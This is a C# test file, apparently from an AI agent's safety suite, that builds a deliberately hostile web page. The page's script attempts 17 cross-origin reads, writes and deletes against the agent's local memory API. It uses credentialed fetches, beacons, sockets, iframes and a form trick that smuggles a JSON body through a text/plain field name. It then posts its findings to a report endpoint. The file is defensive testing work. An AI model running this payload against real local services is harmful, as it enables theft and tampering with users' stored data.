namespace Cairn.Agent.Tests.Safety;

/// <summary>A page that tries whatever a page can to read from an agent and to write to it, and reports what came of it.</summary>
internal static class Attack
{
    /// <summary>What the reports say of something that was read.</summary>
    public const string Read = "READ";

    /// <summary>Attempts that a report must have, so that none was forgotten on the way.</summary>
    public const int Attempts = 17;

    /// <summary>The page.</summary>
    public static string Page(Uri target) => Html.Replace("TARGET", target.ToString().TrimEnd('/'), StringComparison.Ordinal);

    private const string Html = """
        <!doctype html><title>hostile</title><body><script>
        const target = 'TARGET', secret = target + '/v1/recall?q=secret', results = [];
        const planted = JSON.stringify({ content: 'planted' });
        const within = (promise) => Promise.race([promise, new Promise(done => setTimeout(() => done('silence'), 3000))]);
        async function attempt(name, act) {
            let outcome;
            try { outcome = await within(act()); } catch (error) { outcome = 'refused'; }
            results.push(name + ': ' + outcome);
        }
        const text = async (answer) => { const body = await answer.text(); return answer.ok && body.length > 0 ? 'READ ' + body : 'status ' + answer.status; };
        const element = (name, attributes) => new Promise(done => {
            const made = document.createElement(name);
            made.onload = () => {
                let seen = '';
                try { seen = made.contentDocument ? made.contentDocument.body.innerText : ''; } catch { }
                done(seen.includes('secret') || (name === 'img') ? 'READ ' + seen : 'loaded');
            };
            made.onerror = () => done('refused');
            Object.assign(made, attributes);
            document.body.append(made);
        });
        async function form(method, type, path) {
            const frame = document.createElement('iframe');
            frame.name = 'frame' + Math.random();
            document.body.append(frame);
            const made = document.createElement('form');
            Object.assign(made, { method, enctype: type, action: target + path, target: frame.name });
            const field = document.createElement('input');
            field.name = '{"content":"planted", "caption":"';
            field.value = '"}';
            made.append(field);
            document.body.append(made);
            const loaded = new Promise(done => frame.onload = () => done('sent'));
            made.submit();
            return await loaded;
        }
        (async () => {
            await attempt('fetch', async () => text(await fetch(secret)));
            await attempt('fetch no-cors', async () => (await fetch(secret, { mode: 'no-cors' })).type);
            await attempt('fetch with credentials', async () => text(await fetch(secret, { credentials: 'include' })));
            await attempt('fetch with a token', async () => text(await fetch(secret, { headers: { Authorization: 'Bearer guess' } })));
            await attempt('post json', async () => text(await fetch(target + '/v1/memories', { method: 'POST', body: planted, headers: { 'Content-Type': 'application/json' } })));
            await attempt('post text', async () => (await fetch(target + '/v1/memories', { method: 'POST', body: planted, mode: 'no-cors' })).type);
            await attempt('delete', async () => text(await fetch(target + '/v1/memories/MEMORY', { method: 'DELETE' })));
            await attempt('xhr', () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', secret); x.onload = () => done(x.status < 400 ? 'READ ' + x.responseText : 'status ' + x.status); x.onerror = fail; x.send(); }));
            await attempt('beacon', async () => navigator.sendBeacon(target + '/v1/memories', new Blob([planted], { type: 'text/plain' })));
            await attempt('beacon json', async () => navigator.sendBeacon(target + '/v1/memories', new Blob([planted], { type: 'application/json' })));
            await attempt('events', () => new Promise(done => { const events = new EventSource(target + '/v1/events'); events.onopen = () => done('READ events'); events.onerror = () => done('refused'); }));
            await attempt('socket', () => new Promise(done => { const socket = new WebSocket(target.replace('http', 'ws') + '/v1/events'); socket.onopen = () => done('READ socket'); socket.onerror = () => done('refused'); }));
            await attempt('script', () => element('script', { src: secret }));
            await attempt('image', () => element('img', { src: target + '/v1/status' }));
            await attempt('frame', () => element('iframe', { src: secret }));
            await attempt('form get', () => form('GET', 'text/plain', '/v1/memories/recent'));
            await attempt('form post', () => form('POST', 'text/plain', '/v1/memories'));
            await fetch('/report', { method: 'POST', body: results.join('\n') });
        })();
        </script></body>
        """;
}
